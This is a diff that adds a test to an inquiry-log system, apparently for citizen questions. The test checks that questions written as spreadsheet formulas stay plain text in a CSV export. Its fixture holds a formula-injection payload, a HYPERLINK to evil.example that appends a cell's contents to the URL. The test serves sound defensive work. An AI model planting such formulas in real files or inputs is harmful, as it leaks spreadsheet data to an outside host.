@@ -461,3 +461,16 @@ def test_messages_that_ask_nothing_count_but_are_not_listed_as_unanswered_questi
     report = build_report(tmp_path, config=load_ledger_config(environ={}))
     assert report.abstained == 5
     assert [(g["question"], g["count"]) for g in report.unanswered_questions] == [("ドローンの飛行許可は？", 2)]
+
+
+def test_a_question_written_as_a_spreadsheet_formula_stays_text_in_the_csv(tmp_path):
+    log = InquiryLog(tmp_path, user_key_secret="s")
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"クリック")'
+    for text in (formula, formula, "@SUM(1+1)", "@SUM(1+1)"):
+        log.record(Answer(question=text, text="…", abstained=True, confidence=0.0, audience="citizen", kind="abstain"),
+                   "web")
+    log.close()
+    rows = list(csv.reader(io.StringIO(render_csv(build_report(tmp_path, config=load_ledger_config(environ={}))))))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + formula in cells and "'@SUM(1+1)" in cells
+    assert not any(cell.startswith(("=", "@")) for cell in cells)
